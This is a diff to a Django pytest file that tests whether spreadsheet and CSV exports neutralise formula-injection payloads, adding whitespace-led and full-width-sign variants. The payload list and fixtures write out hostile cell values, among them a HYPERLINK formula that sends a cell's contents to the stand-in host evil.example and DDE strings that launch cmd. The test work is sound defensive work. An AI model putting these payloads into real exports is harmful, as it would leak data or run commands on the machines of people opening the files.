@@ -28,8 +28,16 @@ pytestmark = pytest.mark.django_db
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
 DDE = "=cmd|' /C calc'!A0"
 PAYLOADS = [HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
-            "\t=1+1", "\r=1+1", "ctl\x01user\x1b"]
-LEADS = ("=", "+", "-", "@", "\t", "\r")
+            "\t=1+1", "\r=1+1", "ctl\x01user\x1b",
+            # review of issue 16: a lead behind white space (LibreOffice's "trim spaces" CSV import
+            # evaluates " =1+1"), behind a line break, and the full-width signs an IME types
+            " =1+1", "\u3000=1+1", "\n=1+1", "\xa0@SUM(1)", "＝1+1", "＋1", "－1+cmd|' /C calc'!A0", "＠SUM(1)"]
+LEADS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+
+
+def _live_lead(text: str) -> bool:
+    """A text a spreadsheet program could take as a formula: a lead, also behind white space."""
+    return text.startswith(LEADS) or text.lstrip().startswith(LEADS)
 
 
 def xlsx_cells(content: bytes):
@@ -45,7 +53,7 @@ def assert_safe_xlsx(content: bytes) -> list:
     for title, cell in xlsx_cells(content):
         assert cell.data_type != "f", f"{title}!{cell.coordinate} is a formula: {cell.value!r}"
         if isinstance(cell.value, str):
-            assert not cell.value.startswith(LEADS), f"{title}!{cell.coordinate}: {cell.value!r}"
+            assert not _live_lead(cell.value), f"{title}!{cell.coordinate}: {cell.value!r}"
             assert "\x01" not in cell.value and "\x1b" not in cell.value
         values.append(cell.value)
     return values
@@ -67,7 +75,7 @@ def assert_safe_csv(content: bytes, numeric: set[str] = frozenset()) -> list[lis
             if name in numeric:
                 assert value == "" or _is_number(value), (name, value, row)
                 continue
-            assert not value.startswith(LEADS), f"{name}: {value!r}"
+            assert not _live_lead(value), f"{name}: {value!r}"
     return table
 
 
@@ -79,6 +87,13 @@ def test_the_writer_neutralises_text_and_keeps_numbers():
     assert spreadsheets.csv_field("-12.5", numeric=True) == "-12.5"
     assert spreadsheets.csv_field("-12.5+cmd", numeric=True) == "'-12.5+cmd"
     assert spreadsheets.csv_field("-12.5") == "'-12.5"
+    for payload in PAYLOADS:
+        assert not _live_lead(spreadsheets.safe_text(payload)), payload
+        assert not _live_lead(spreadsheets.csv_field(payload)), payload
+        assert not _live_lead(spreadsheets.csv_field(payload, numeric=True)), payload
+    assert spreadsheets.safe_text(" =1+1") == "' =1+1"
+    assert spreadsheets.safe_text("＝1+1") == "'＝1+1"
+    assert spreadsheets.safe_text("  项目 - 一期") == "  项目 - 一期"  # a sign later on is harmless
 
 
 @pytest.fixture
@@ -89,7 +104,7 @@ def hostile_recommended(users, time_machine):
     apps = [make_recommended(users["hefei_applicant"], users["hefei_clerk"], f"项目{n}") for n in range(2)]
     # Stored as typed: whatever the forms accept today, an export must not trust its data.
     Application.objects.filter(pk=apps[0].pk).update(project_name=HYPERLINK, contact_name=DDE, contact_phone="")
-    Application.objects.filter(pk=apps[1].pk).update(project_name="ctl\x01name\x1b", contact_name="@SUM(1)")
+    Application.objects.filter(pk=apps[1].pk).update(project_name="ctl\x01name\x1b", contact_name=" =HYPERLINK(\"http://evil.example\")")
     Organisation.objects.filter(pk=users["hefei_applicant"].organisation_id).update(name="-2+3+cmd|' /C calc'!A0")
     time_machine.move_to(at("2026-05-20 10:00:00"), tick=False)
     return [Application.objects.get(pk=a.pk) for a in apps]
